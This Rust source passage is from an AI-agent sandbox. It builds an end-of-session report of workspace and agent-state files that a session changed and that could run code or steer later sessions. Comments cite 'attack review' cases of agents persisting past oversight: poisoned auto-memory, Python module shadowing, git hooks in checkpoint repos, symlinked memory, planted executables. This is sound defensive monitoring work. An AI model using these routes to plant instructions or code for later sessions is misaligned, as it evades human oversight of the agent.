//! The end-of-session integrity report: every file in the workspace that a host tool will
//! execute or load as configuration, and that the session created or changed.
//!
//! [`snapshot`] walks the workspace before the session (fd-relative through [`crate::fsat`]:
//! no symlink is followed, bounded in entries and depth) and records a stamp for each file
//! that matters: git metadata at any depth (hooks, config, `commondir`, `gitdir` files,
//! attributes, `.gitmodules`), agent settings (`.claude/`, `.mcp.json`, `.codex/`, `.gemini/`,
//! `CLAUDE.md`, ...), IDE configuration (`.vscode/`, `.idea/`, `.devcontainer/`), `.envrc`,
//! build configuration (`.cargo/config.toml`, `.npmrc`, `package.json` scripts, `Makefile`,
//! lefthook, `.mvn/`, `gradle.properties`, `.bundle/config`, ...), Python start-up files
//! (`*.pth`, `*._pth`, `sitecustomize` in any form, `pyvenv.cfg`), tools' start-up files
//! (`.pdbrc`, `pylintrc`, `.gdbinit`, ...), `.lfsconfig` and any file with a setuid/setgid bit.
//! [`compare`] walks again after the session and lists what was created or changed. A stamp
//! includes the inode change time, which the agent cannot set, so a rewrite with a forged
//! mtime still shows. In a Python virtual environment (a directory with `pyvenv.cfg` then or
//! now) every entry whose inode changed after the baseline began is listed: no stamp is
//! needed for what only the end's walk looks at.
//!
//! [`snapshot_state`] adds what steers later sessions in the agent's writable state
//! directories (`~/.claude/settings.json`, `CLAUDE.md`, `commands/`, `agents/`, `hooks/`,
//! `local/`, Gemini's `extensions/` and `trustedFolders.json`, `.env`, ...), and every file
//! there with an execute bit (a file the host can run directly: created, changed or made
//! executable shows). [`watch_files`] adds the files the host's agent configuration names
//! (`bash ~/.claude/statusline-command.sh`; see `warden_agentstate::refs`).
//! [`snapshot_git_targets`] adds what git configuration names outside a git dir
//! (`core.hooksPath`, includes, `init.templateDir`; [`crate::gitrefs`]) in any writable
//! root: a change there is listed even where the lock held.
//!
//! Git, agent and IDE configuration is already locked or neutralised by the sandbox
//! ([`crate::guard`]); the report puts the rest in front of the human. It is data
//! ([`Report`], serde) so the session log can keep it.

use crate::fsat;
use crate::guard::{bulk_unwalked, GIT_BULK};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::ffi::{OsStr, OsString};
use std::os::fd::{AsFd, BorrowedFd};
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};

/// Entries visited at most per walk, and the deepest directory level.
const MAX_ENTRIES: u64 = 2_000_000;
const MAX_DEPTH: usize = 64;
/// `package.json` files larger than this are compared whole, not by their scripts.
const MAX_JSON: usize = 4 << 20;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Category {
    /// Hooks, config, commondir, gitdir files, attributes, .gitmodules (at any depth).
    Git,
    /// Agent settings and instructions: .claude/, .mcp.json, .codex/, .gemini/, CLAUDE.md...
    Agent,
    /// IDE configuration: .vscode/ (tasks.json runs commands), .idea/, .devcontainer/.
    Ide,
    /// Shell environment loaders: .envrc (direnv), mise.toml.
    Env,
    /// Build and package-manager configuration: .cargo/config.toml, .npmrc, package.json
    /// scripts, Makefile, rust-toolchain, pre-commit, husky hooks.
    Build,
    /// A file with a setuid or setgid bit.
    SetId,
}

/// Entries the exit report prints before it summarises the rest.
const MAX_SHOWN: usize = 60;

impl Category {
    /// Order in the exit report: what the agent's next session obeys and what git runs first.
    fn rank(self) -> u8 {
        match self {
            Category::Agent => 0,
            Category::Git => 1,
            Category::SetId => 2,
            Category::Env => 3,
            Category::Ide => 4,
            Category::Build => 5,
        }
    }

    pub fn label(self) -> &'static str {
        match self {
            Category::Git => "git metadata",
            Category::Agent => "agent settings",
            Category::Ide => "IDE configuration",
            Category::Env => "shell environment",
            Category::Build => "build configuration",
            Category::SetId => "setuid/setgid file",
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Change {
    Created,
    Modified,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Entry {
    /// Relative to the workspace, or absolute for a file in the agent's state directory.
    pub path: PathBuf,
    pub category: Category,
    pub change: Change,
    /// What kind of file this is (e.g. "git hook", "package.json scripts", "mode 4755").
    pub what: String,
}

#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Report {
    pub workspace: PathBuf,
    pub entries: Vec<Entry>,
    /// A walk hit its bounds (entries, depth) or could not open a directory: files past it
    /// were not compared.
    pub incomplete: bool,
    pub scanned: u64,
    /// Supervisor pids of other warden sessions that could write in this workspace while
    /// this one ran ([`crate::placeholder::sharing`]): their changes are not told apart
    /// from this session's, and one moving files during the walk can hide them from it.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub concurrent: Vec<i32>,
}

#[derive(Debug, Clone, PartialEq)]
struct Stamp {
    dev: u64,
    ino: u64,
    mode: u32,
    size: i64,
    mtime: (i64, i64),
    ctime: (i64, i64),
    category: Category,
    what: &'static str,
    /// `package.json`: its scripts (what changes count).
    scripts: Option<String>,
}

/// The workspace's relevant files before the session.
#[derive(Debug, Clone, Default)]
pub struct Snapshot {
    /// Workspace-relative, or absolute for agent state directories.
    files: HashMap<PathBuf, Stamp>,
    incomplete: bool,
    scanned: u64,
    state_dirs: Vec<PathBuf>,
    /// Paths git configuration names, as (writable root, relative path).
    git_targets: Vec<(PathBuf, PathBuf)>,
    /// Absolute paths recorded by [`watch_files`].
    watched: Vec<PathBuf>,
    /// The session's placeholders ([`Snapshot::placeholders`]).
    placeholders: Vec<PathBuf>,
    /// A baseline that stamped only the files whose names matter ([`Inputs::snapshot`]):
    /// the coarse real time (seconds, nanoseconds) before its walk. A setuid/setgid file the
    /// end finds without a stamp counts as changed when its inode changed since.
    setid_since: Option<(i64, i64)>,
    /// The coarse real time before this walk began (see [`coarse_now`]).
    began: (i64, i64),
    /// Python virtual environments found (workspace-relative: a directory holding
    /// `pyvenv.cfg`).
    venvs: Vec<PathBuf>,
    /// Entries inside a virtual environment whose inode changed after the baseline began
    /// (end walk only), with whether each is a directory; the ones a name covers are stamped
    /// in `files` instead.
    venv_changed: Vec<(PathBuf, bool)>,
    /// Symbolic links made in the session (end walk only), with what each names resolved
    /// lexically from its directory (links to a virtual environment are reported).
    new_links: Vec<(PathBuf, Option<PathBuf>)>,
}

impl Snapshot {
    pub fn len(&self) -> usize {
        self.files.len()
    }

    pub fn is_empty(&self) -> bool {
        self.files.is_empty()
    }

    /// This session's placeholders (absolute paths, see `crate::placeholder`): still empty
    /// at the end, they are warden's, not a creation of the agent's (the sandbox locked them
    /// read-only).
    pub fn placeholders(&mut self, dirs: impl IntoIterator<Item = PathBuf>) {
        self.placeholders.extend(dirs);
    }
}

/// Walks `workspace` (see the module doc).
pub fn snapshot(workspace: &Path) -> std::io::Result<Snapshot> {
    walk_root(workspace, true, true, None)
}

/// Walks `workspace`; `all`: stat every file (to find setuid/setgid bits), else only the
/// files whose names matter (and those `readdir` gives no type for).
/// `two`: on two threads where the machine has two CPUs (only `all` walks).
fn walk_root(
    workspace: &Path,
    all: bool,
    two: bool,
    venv: Option<&VenvCheck<'_>>,
) -> std::io::Result<Snapshot> {
    let began = coarse_now();
    let root = fsat::open_root(workspace)?;
    let dev = fsat::fstat(root.as_fd())?.st_dev;
    let mut s = Snapshot {
        began,
        ..Snapshot::default()
    };
    walk(&root, dev, all, two, venv, &mut s);
    Ok(s)
}

/// What the end's walk looks for in Python virtual environments: every entry whose inode
/// changed at or after `since` (the baseline's start), in every directory that holds a
/// `pyvenv.cfg` now or held one then (`roots`).
struct VenvCheck<'a> {
    since: (i64, i64),
    roots: &'a [PathBuf],
}

/// `CLOCK_REALTIME_COARSE`, the clock inode timestamps are taken from (a fine-grained
/// reading can be later than the stamp of a change made after it).
fn coarse_now() -> (i64, i64) {
    // SAFETY: clock_gettime into a local struct.
    let mut t: libc::timespec = unsafe { std::mem::zeroed() };
    // SAFETY: as above.
    if unsafe { libc::clock_gettime(libc::CLOCK_REALTIME_COARSE, &mut t) } != 0 {
        // No clock: every setuid/setgid file without a stamp counts as changed.
        return (0, 0);
    }
    // One second of margin for a clock step between here and the change.
    (t.tv_sec - 1, t.tv_nsec)
}

/// What a whole baseline needs from the plan ([`Inputs::of`]), taken out of it so that the
/// walk ([`Inputs::snapshot`]) can run later, beside the sandbox's own start (the session
/// runs it once the sandbox is forked, while init builds the view, and before the agent is
/// released).
#[derive(Debug, Clone)]
pub struct Inputs {
    workspace: PathBuf,
    state_dirs: Vec<PathBuf>,
    git_targets: Vec<(PathBuf, PathBuf)>,
    watched: Vec<PathBuf>,
    placeholders: Vec<PathBuf>,
}

impl Inputs {
    pub fn of(workspace: &Path, plan: &crate::plan::Plan) -> Inputs {
        Inputs {
            workspace: workspace.to_path_buf(),
            state_dirs: plan.agent_state_dirs(),
            git_targets: git_targets(plan),
            watched: plan.state_watch.clone(),
            placeholders: plan.placeholders.iter().map(|(p, _)| p.clone()).collect(),
        }
    }

    /// The baseline: [`snapshot`] of the workspace, [`snapshot_state`], the git targets,
    /// [`watch_files`] and the placeholders. Placeholders made before the walk are seen or
    /// not; [`compare`] treats both alike (an empty placeholder is never a change).
    ///
    /// The workspace walk stats only the files whose names matter (a few dozen in most
    /// repositories), not every file for a setuid/setgid bit, which was half its cost: the
    /// end's walk finds every setuid/setgid file, and one without a stamp is listed when
    /// its inode changed after this walk began (`st_ctime`, which only the kernel sets:
    /// `chmod`, a write, `rename` and `link` all set it). The sandbox's seccomp filter
    /// refuses to make such files at all (`crate::filter`); this is the check behind it.
    /// Limit: a file system whose clock is behind this host's (NFS) can hide a change.
    pub fn snapshot(self) -> std::io::Result<Snapshot> {
        self.snapshot_since(coarse_now())
    }

    fn snapshot_since(self, since: (i64, i64)) -> std::io::Result<Snapshot> {
        let mut s = walk_root(&self.workspace, false, false, None)?;
        s.setid_since = Some(since);
        snapshot_state(&mut s, &self.state_dirs);
        add_git_targets(&mut s, &self.git_targets);
        watch_files(&mut s, &self.watched);
        s.placeholders(self.placeholders);
        Ok(s)
    }
}

/// What in an agent's writable state directory (`~/.claude`, `~/.codex`, ...) steers later
/// sessions: settings, instructions, commands, agents, hooks, skills, plugins. Entries are
/// keyed by absolute path. Transcripts, caches and history are not listed.
const STATE_FILES: &[&str] = &[
    "settings.json",
    "settings.local.json",
    "CLAUDE.md",
    "AGENTS.md",
    "GEMINI.md",
    "config.toml",
    "hooks.json",
    "keybindings.json",
    "trustedFolders.json",
    ".env",
    "AGENTS.override.md",
];
const STATE_DIRS: &[&str] = &[
    "commands",
    "agents",
    "hooks",
    "skills",
    "plugins",
    "output-styles",
    "rules",
    "prompts",
    "extensions",
    "local",
    "policies",
    "workflows",
];

/// Each of `dirs` that opens as a directory (no link followed), with its fd and device.
fn opened(dirs: &[PathBuf]) -> impl Iterator<Item = (&PathBuf, std::os::fd::OwnedFd, u64)> {
    dirs.iter().filter_map(|d| {
        let root = fsat::open_root(d).ok()?;
        let dev = fsat::fstat(root.as_fd()).ok()?.st_dev;
        Some((d, root, dev))
    })
}

/// Adds the steering files of the agent's state directories (see [`STATE_FILES`]).
pub fn snapshot_state(s: &mut Snapshot, dirs: &[PathBuf]) {
    for (d, root, dev) in opened(dirs) {
        let mut sub = Snapshot::default();
        walk_exec(&root, dev, Path::new(""), 0, &mut sub);
        for f in STATE_FILES {
            if let Ok(st) = fsat::lstat_at(root.as_fd(), OsStr::new(f)) {
                sub.files.insert(
                    PathBuf::from(f),
                    stamp(&st, Category::Agent, "agent state", None),
                );
            }
        }
        for sd in STATE_DIRS {
            if fsat::open_dir(root.as_fd(), Path::new(sd), true, Some(dev)).is_ok() {
                walk_all(&root, dev, Path::new(sd), 0, AGENT_STATE, &mut sub);
            }
        }
        config_shaped(&root, dev, &mut sub);
        for data in MEMORY_PARENTS {
            memories(&root, dev, Path::new(data), &mut sub);
        }
        shadow_repos(&root, dev, &mut sub);
        s.incomplete |= sub.incomplete;
        s.scanned += sub.scanned;
        for (k, v) in sub.files {
            s.files.insert(d.join(k), v);
        }
        s.state_dirs.push(d.clone());
    }
}

const AGENT_STATE: (Category, &str) = (Category::Agent, "agent state");
const GIT_TARGET: (Category, &str) = (
    Category::Git,
    "named by git config: core.hooksPath, include or init.templateDir",
);

/// The paths git configuration names ([`crate::plan::Plan::git_targets`]): every file below
/// a hooks or template directory, an included config file. Keyed by absolute path; opened
/// beneath their writable root (no symlink followed). Absent ones are not listed (their
/// placeholder is removed before the comparison: what is there then was written by the
/// session).
/// The plan's git targets as (writable root, path below it).
fn git_targets(plan: &crate::plan::Plan) -> Vec<(PathBuf, PathBuf)> {
    let roots = crate::placeholder::writable_roots(plan);
    plan.git_targets
        .iter()
        .filter_map(|t| {
            let r = roots.iter().find(|r| t.starts_with(r) && t != *r)?;
            Some((r.clone(), t.strip_prefix(r).ok()?.to_path_buf()))
        })
        .collect()
}

fn add_git_targets(s: &mut Snapshot, targets: &[(PathBuf, PathBuf)]) {
    for (root, rel) in targets {
        s.git_targets.push((root.clone(), rel.clone()));
        let Ok(rfd) = fsat::open_root(root) else {
            continue;
        };
        let Ok(dev) = fsat::fstat(rfd.as_fd()).map(|st| st.st_dev) else {
            continue;
        };
        let (Some(parent), Some(name)) = (rel.parent(), rel.file_name()) else {
            continue;
        };
        let Ok(pd) = fsat::open_dir(rfd.as_fd(), parent, true, Some(dev)) else {
            continue;
        };
        let Ok(st) = fsat::lstat_at(pd.as_fd(), name) else {
            continue;
        };
        let mut sub = Snapshot::default();
        if fsat::is_dir(&st) {
            walk_all(&rfd, dev, rel, 0, GIT_TARGET, &mut sub);
        } else {
            sub.files
                .insert(rel.clone(), stamp(&st, GIT_TARGET.0, GIT_TARGET.1, None));
        }
        s.incomplete |= sub.incomplete;
        s.scanned += sub.scanned;
        for (k, v) in sub.files {
            s.files.insert(root.join(k), v);
        }
    }
}

const WATCHED: (Category, &str) = (Category::Agent, "run by the host's agent settings");

/// Records `paths` (absolute: files the host's agent configuration runs, see the module
/// doc) as they are now, entry by entry (never followed), and below each directory.
pub fn watch_files(s: &mut Snapshot, paths: &[PathBuf]) {
    for p in paths {
        let (Some(parent), Some(name)) = (p.parent(), p.file_name()) else {
            continue;
        };
        if !s.watched.contains(p) {
            s.watched.push(p.clone());
        }
        let Ok(dir) = fsat::open_root(parent) else {
            continue;
        };
        let Ok(st) = fsat::lstat_at(dir.as_fd(), name) else {
            continue;
        };
        s.files.insert(
            p.clone(),
            stamp(
                &st,
                Category::Agent,
                "run by the host's agent settings",
                None,
            ),
        );
        if p.extension().is_some_and(|e| e == "py") {
            python_siblings(s, &dir, parent);
        }
        if fsat::is_dir(&st) {
            let mut sub = Snapshot::default();
            walk_all(&dir, st.st_dev, Path::new(name), 0, WATCHED, &mut sub);
            s.incomplete |= sub.incomplete;
            for (k, v) in sub.files {
                s.files.insert(parent.join(k), v);
            }
        }
    }
}

/// Python puts a script's own directory first on its import path: beside a `.py` script the
/// host's agent settings run (`python3 ~/.claude/statusline.py`), a module file (`json.py`,
/// `re.pyc`, `x.so`) or a package (`json/__init__.py`) the agent adds there shadows what the
/// script, or the standard library under it, imports (attack review 56). Such a file cannot
/// be locked ahead (any name may be imported): it is compared here, so the report names it.
fn python_siblings(s: &mut Snapshot, dir: &std::os::fd::OwnedFd, parent: &Path) {
    const WHAT: &str = "a Python module beside a script the host's agent settings run";
    let Ok(entries) = fsat::open_dir(dir.as_fd(), Path::new("."), false, None)
        .and_then(|d| fsat::list_typed(d.as_fd()))
    else {
        s.incomplete = true;
        return;
    };
    for (name, dtype) in entries.iter().take(MAX_ENTRIES as usize) {
        let module = |n: &str| [".py", ".pyc", ".so"].iter().any(|x| n.ends_with(x));
        if dtype == &libc::DT_DIR {
            // A package: `__init__.py`, `__init__.pyc`, `__init__.cpython-311-x86_64-linux-gnu.so`.
            let Ok(pkg) = fsat::open_dir(dir.as_fd(), Path::new(name), false, None) else {
                continue;
            };
            let Ok(inner) = fsat::list_typed(pkg.as_fd()) else {
                continue;
            };
            for (f, _) in inner.iter().take(MAX_ENTRIES as usize) {
                let fs = f.to_string_lossy();
                if !(fs.starts_with("__init__.") && module(&fs)) {
                    continue;
                }
                if let Ok(st) = fsat::lstat_at(pkg.as_fd(), f) {
                    s.files
                        .entry(parent.join(name).join(f))
                        .or_insert_with(|| stamp(&st, Category::Agent, WHAT, None));
                }
            }
        } else if module(&name.to_string_lossy()) {
            if let Ok(st) = fsat::lstat_at(dir.as_fd(), name) {
                s.files
                    .entry(parent.join(name))
                    .or_insert_with(|| stamp(&st, Category::Agent, WHAT, None));
            }
        }
    }
}

/// Top-level directories of a state directory holding the agent's own bulk data
/// (transcripts, file history, caches): the host runs nothing from them unless its settings
/// name the file (then `warden_agentstate::refs` locks and [`watch_files`] compares it), so
/// the execute-bit walk skips them (50,000 transcripts cost ~0.4 s per walk otherwise).
const DATA_DIRS: &[&str] = &[
    "projects",
    "todos",
    "tmp",
    "history",
    "sessions",
    "archived_sessions",
    "log",
    "logs",
    "shell-snapshots",
    "shell_snapshots",
    "statsig",
    "file-history",
    "debug",
    "ide",
    "session-env",
    "plans",
    "cache",
    "telemetry",
    "paste-cache",
    "image-cache",
];

/// Every regular file with an execute bit below `rel` (the state directory, but for
/// [`DATA_DIRS`] at its top level).
/// The directory `rel` beneath `root` (on `dev`, no symlink followed), opened for reading, and
/// its entries; `None`, with the snapshot marked incomplete, when either fails.
fn listed(
    root: &std::os::fd::OwnedFd,
    rel: &Path,
    dev: u64,
    s: &mut Snapshot,
) -> Option<(std::os::fd::OwnedFd, Vec<(OsString, u8)>)> {
    let listing = fsat::open_dir(root.as_fd(), rel, false, Some(dev))
        .and_then(|dir| fsat::list_typed(dir.as_fd()).map(|typed| (dir, typed)));
    match listing {
        Ok((dir, typed)) => {
            s.scanned += typed.len() as u64;
            Some((dir, typed))
        }
        Err(_) => {
            s.incomplete = true;
            None
        }
    }
}

/// Files at the top of a state directory that look like configuration (by extension) and
/// are no known data file: whatever the agent's CLI reads from there besides
/// [`STATE_FILES`] (Claude Code's legacy `.config.json`, Codex's `environments.toml`, a file
/// a later version adds) is reported when the session made or changed it (attack review 76:
/// names the protect lists missed ran code in the host's next plain run).
fn config_shaped(root: &std::os::fd::OwnedFd, dev: u64, s: &mut Snapshot) {
    const EXTENSIONS: &[&str] = &[
        ".json", ".toml", ".yaml", ".yml", ".md", ".env", ".js", ".cjs", ".mjs", ".ts", ".sh",
        ".py",
    ];
    /// Data the CLIs rewrite on their own (ids, caches, login tokens): not configuration.
    const DATA_FILES: &[&str] = &[
        "stats-cache.json",
        "version.json",
        "models_cache.json",
        "internal_storage.json",
        ".credentials.json",
        ".device-keys.json",
        "auth.json",
        "oauth_creds.json",
        "google_accounts.json",
    ];
    let Some((dir, typed)) = listed(root, Path::new(""), dev, s) else {
        return;
    };
    for (name, dt) in &typed {
        let n = name.as_encoded_bytes();
        // A link at the top of a state directory (`tmp -> history/.t`): the CLI follows it,
        // and the walks, which never do, would miss what lies behind it (attack review 79:
        // a memory behind a linked `~/.gemini/tmp` went unreported).
        if *dt == libc::DT_LNK {
            if let Ok(st) = fsat::lstat_at(dir.as_fd(), name) {
                s.files.insert(
                    PathBuf::from(name),
                    stamp(&st, Category::Agent, STATE_LINK, None),
                );
            }
            continue;
        }
        if *dt == fsat::DT_DIR
            || !EXTENSIONS.iter().any(|e| n.ends_with(e.as_bytes()))
            || DATA_FILES.iter().any(|d| n == d.as_bytes())
        {
            continue;
        }
        if let Ok(st) = fsat::lstat_at(dir.as_fd(), name) {
            s.files.entry(PathBuf::from(name)).or_insert_with(|| {
                stamp(
                    &st,
                    Category::Agent,
                    "agent configuration (read by the agent's CLI)",
                    None,
                )
            });
        }
    }
}

const STATE_LINK: &str =
    "a link in the agent's state directory (the agent's CLI follows it where warden's walk does not)";

/// Data directories whose per-project subdirectories hold an auto-memory
/// (`~/.claude/projects/<project>/memory`, `~/.gemini/tmp/<project>/memory`): the CLI puts its
/// `MEMORY.md` in the next session's instructions there.
const MEMORY_PARENTS: &[&str] = &["projects", "tmp"];

/// Every file in `rel/*/memory` (attack review 76: memory the agent wrote for any project,
/// which the host's next session there obeys, went unreported among the transcripts).
fn memories(root: &std::os::fd::OwnedFd, dev: u64, rel: &Path, s: &mut Snapshot) {
    /// Projects looked at (a long-used `~/.claude/projects` holds hundreds; an agent that
    /// floods it past this makes the report say so, attack review 81).
    const MAX_PROJECTS: usize = 100_000;
    if fsat::open_dir(root.as_fd(), rel, true, Some(dev)).is_err() {
        return;
    }
    let Some((dir, typed)) = listed(root, rel, dev, s) else {
        return;
    };
    if typed.len() > MAX_PROJECTS {
        s.incomplete = true;
    }
    for (name, dt) in typed.iter().take(MAX_PROJECTS) {
        let project = rel.join(name);
        // A project directory, or its `memory`, that is a symlink: the CLI follows it to
        // whatever it names (attack review 78: a link into `todos/` went unreported). The
        // link itself is stamped, so making it is a change.
        if *dt == libc::DT_LNK {
            if let Ok(st) = fsat::lstat_at(dir.as_fd(), name) {
                s.files
                    .insert(project, stamp(&st, MEMORY.0, MEMORY_LINK, None));
            }
            continue;
        }
        if *dt != fsat::DT_DIR && *dt != fsat::DT_UNKNOWN {
            continue;
        }
        let Ok(pdir) = fsat::open_dir(dir.as_fd(), Path::new(name), true, Some(dev)) else {
            continue;
        };
        let mem = project.join("memory");
        match fsat::lstat_at(pdir.as_fd(), OsStr::new("memory")) {
            Ok(st) if fsat::is_dir(&st) => walk_all(root, dev, &mem, 0, MEMORY, s),
            Ok(st) => {
                s.files.insert(mem, stamp(&st, MEMORY.0, MEMORY_LINK, None));
            }
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {}
            Err(_) => s.incomplete = true,
        }
    }
}

/// Gemini CLI's checkpoint repositories (`~/.gemini/history/<project>/.git`): with
/// checkpointing on, the host's `gemini` runs `git add`, `status` and `commit` in them before
/// each file edit, and git obeys their own `config` (`core.fsmonitor`) and hooks (attack
/// review 79). Their config and hooks are stamped, so a change is reported.
fn shadow_repos(root: &std::os::fd::OwnedFd, dev: u64, s: &mut Snapshot) {
    const MAX_PROJECTS: usize = 5000;
    let rel = Path::new("history");
    if fsat::open_dir(root.as_fd(), rel, true, Some(dev)).is_err() {
        return;
    }
    let Some((dir, typed)) = listed(root, rel, dev, s) else {
        return;
    };
    for (name, dt) in typed.iter().take(MAX_PROJECTS) {
        if *dt != fsat::DT_DIR && *dt != fsat::DT_UNKNOWN {
            continue;
        }
        let git = rel.join(name).join(".git");
        let Ok(g) = fsat::open_dir(dir.as_fd(), &Path::new(name).join(".git"), true, Some(dev))
        else {
            continue;
        };
        for f in ["config", "config.worktree", "commondir"] {
            if let Ok(st) = fsat::lstat_at(g.as_fd(), OsStr::new(f)) {
                s.files
                    .insert(git.join(f), stamp(&st, Category::Git, SHADOW_REPO, None));
            }
        }
        if fsat::open_dir(g.as_fd(), Path::new("hooks"), true, Some(dev)).is_ok() {
            walk_all(
                root,
                dev,
                &git.join("hooks"),
                0,
                (Category::Git, SHADOW_REPO),
                s,
            );
        }
    }
}

const SHADOW_REPO: &str =
    "git config or hook of the agent's checkpoint repository (its CLI runs git there)";

const MEMORY_LINK: &str =
    "agent memory not in a directory of its own (a link the agent's next session follows)";

const MEMORY: (Category, &str) = (
    Category::Agent,
    "agent memory (the agent's next session obeys it as instructions)",
);

fn walk_exec(root: &std::os::fd::OwnedFd, dev: u64, rel: &Path, depth: usize, s: &mut Snapshot) {
    if depth > MAX_DEPTH || s.scanned > MAX_ENTRIES {
        s.incomplete = true;
        return;
    }
    let Ok(dir) = fsat::open_dir(root.as_fd(), rel, false, Some(dev)) else {
        return;
    };
    let Ok(typed) = fsat::list_typed(dir.as_fd()) else {
        return;
    };
    s.scanned += typed.len() as u64;
    for (name, dt) in &typed {
        let child = rel.join(name);
        if depth == 0 && DATA_DIRS.iter().any(|d| name == *d) {
            continue;
        }
        if *dt == fsat::DT_DIR {
            walk_exec(root, dev, &child, depth + 1, s);
            continue;
        }
        if *dt != libc::DT_REG && *dt != fsat::DT_UNKNOWN {
            continue;
        }
        let Ok(st) = fsat::lstat_at(dir.as_fd(), name) else {
            continue;
        };
        if fsat::is_dir(&st) && st.st_dev == dev {
            walk_exec(root, dev, &child, depth + 1, s);
        } else if fsat::is_reg(&st) && st.st_mode & 0o111 != 0 {
            s.files
                .insert(child, stamp(&st, Category::Agent, "executable file", None));
        }
    }
}

const DATA_EXEC: &str =
    "executable file in the agent's data directories (transcripts, tmp/, history/: a program planted for a later run)";

/// Entries the end's walk of the data directories reads at most (see [`data_exec`]).
const DATA_MAX_ENTRIES: u64 = 200_000;

/// The end only: every regular file with an execute bit in the [`DATA_DIRS`] of each agent
/// state directory whose inode changed at or after `since` (created, written, `chmod`ed or
/// renamed in the session: the kernel sets ctime, nothing can set it back), stamped as
/// [`DATA_EXEC`] (attack review 127: `~/.gemini/tmp/bin/rg`, which Gemini CLI versions
/// that download ripgrep run, was not named). The baseline does not walk them (transcripts
/// and caches: thousands of files); the end stats each file there once, beside the rest of
/// its walk, up to [`DATA_MAX_ENTRIES`] (past that the report says it is incomplete).
fn data_exec(s: &mut Snapshot, dirs: &[PathBuf], since: (i64, i64)) {
    fn walk(
        root: &std::os::fd::OwnedFd,
        dev: u64,
        rel: &Path,
        depth: usize,
        since: (i64, i64),
        seen: &mut u64,
        out: &mut Snapshot,
    ) {
        if depth > MAX_DEPTH || *seen > DATA_MAX_ENTRIES {
            out.incomplete = true;
            return;
        }
        let Some((dir, typed)) = listed(root, rel, dev, out) else {
            return;
        };
        *seen += typed.len() as u64;
        for (name, dt) in &typed {
            if *dt != fsat::DT_DIR && *dt != libc::DT_REG && *dt != fsat::DT_UNKNOWN {
                continue;
            }
            // Transcripts, chats and logs by the thousand: a stat each cost ~6 µs here
            // (`--profile claude -- true` ×1.92 with 5,000 transcripts). No agent CLI runs
            // a file by such a name; a program keeps any other (`rg`, `x.sh`).
            if *dt == libc::DT_REG && data_name(name) {
                continue;
            }
            let Ok(st) = fsat::lstat_at(dir.as_fd(), name) else {
                continue;
            };
            let child = rel.join(name);
            if fsat::is_dir(&st) {
                if st.st_dev == dev {
                    walk(root, dev, &child, depth + 1, since, seen, out);
                }
            } else if fsat::is_reg(&st)
                && st.st_mode & 0o111 != 0
                && (st.st_ctime, st.st_ctime_nsec) >= since
            {
                out.files
                    .entry(child)
                    .or_insert_with(|| stamp(&st, Category::Agent, DATA_EXEC, None));
            }
        }
    }
    for (d, root, dev) in opened(dirs) {
        let mut sub = Snapshot::default();
        let mut seen = 0u64;
        for data in DATA_DIRS {
            if fsat::lstat_at(root.as_fd(), OsStr::new(data)).is_ok_and(|st| fsat::is_dir(&st)) {
                walk(&root, dev, Path::new(data), 0, since, &mut seen, &mut sub);
            }
        }
        s.incomplete |= sub.incomplete;
        s.scanned += seen;
        for (k, v) in sub.files {
            s.files.entry(d.join(k)).or_insert(v);
        }
    }
}

/// Whether `name` ends as the agents' data files do (transcripts, chats, logs), which
/// [`data_exec`] does not stat.
fn data_name(name: &OsStr) -> bool {
    const DATA_EXT: &[&str] = &[".jsonl", ".json", ".log", ".txt"];
    let n = name.as_encoded_bytes();
    DATA_EXT.iter().any(|e| n.ends_with(e.as_bytes()))
}

/// Every non-directory entry below `rel`, as `class`.
fn walk_all(
    root: &std::os::fd::OwnedFd,
    dev: u64,
    rel: &Path,
    depth: usize,
    class: (Category, &'static str),
    s: &mut Snapshot,
) {
    if depth > MAX_DEPTH || s.scanned > MAX_ENTRIES {
        s.incomplete = true;
        return;
    }
    let Some((dir, typed)) = listed(root, rel, dev, s) else {
        return;
    };
    for (name, _) in &typed {
        let Ok(st) = fsat::lstat_at(dir.as_fd(), name) else {
            continue;
        };
        let child = rel.join(name);
        if fsat::is_dir(&st) {
            if st.st_dev == dev {
                walk_all(root, dev, &child, depth + 1, class, s);
            }
        } else {
            s.files.insert(child, stamp(&st, class.0, class.1, None));
        }
    }
}

fn stamp(
    st: &libc::stat,
    category: Category,
    what: &'static str,
    scripts: Option<String>,
) -> Stamp {
    Stamp {
        dev: st.st_dev,
        ino: st.st_ino,
        mode: st.st_mode,
        size: st.st_size,
        mtime: (st.st_mtime, st.st_mtime_nsec),
        ctime: (st.st_ctime, st.st_ctime_nsec),
        category,
        what,
        scripts,
    }
}

/// Walks again and lists what was created or changed since `before`.
pub fn compare(before: &Snapshot, workspace: &Path) -> Report {
    let two = before.scanned >= TWO_THREADS_FROM;
    let venv = VenvCheck {
        since: before.setid_since.unwrap_or(before.began),
        roots: &before.venvs,
    };
    let after = match walk_root(workspace, true, two, Some(&venv)) {
        Ok(mut s) => {
            snapshot_state(&mut s, &before.state_dirs);
            data_exec(&mut s, &before.state_dirs, venv.since);
            add_git_targets(&mut s, &before.git_targets);
            watch_files(&mut s, &before.watched);
            s
        }
        Err(_) => {
            return Report {
                workspace: workspace.to_path_buf(),
                entries: Vec::new(),
                incomplete: true,
                scanned: 0,
                concurrent: Vec::new(),
            }
        }
    };
    let mut entries: Vec<Entry> = Vec::new();
    for (path, a) in &after.files {
        // A git config target in the workspace is listed once, workspace-relative.
        let shown = match path.strip_prefix(workspace) {
            Ok(r) if path.is_absolute() => {
                if after.files.contains_key(r) {
                    continue;
                }
                r.to_path_buf()
            }
            _ => path.clone(),
        };
        let change = match before.files.get(path) {
            // A set-id file no name covers, not stamped by a baseline that stamped names
            // only: changed in the session when its inode changed after the baseline began
            // (see `Inputs::snapshot`). One whose name matters is never skipped this way: a
            // directory rename moves files into such paths without touching their ctime
            // (attack review 66).
            None if a.category == Category::SetId
                && before.setid_since.is_some_and(|t| a.ctime < t) =>
            {
                continue
            }
            None if a.category == Category::SetId && before.setid_since.is_some() => {
                Change::Modified
            }
            // Found by the end's walk of the state directories' data directories, which the
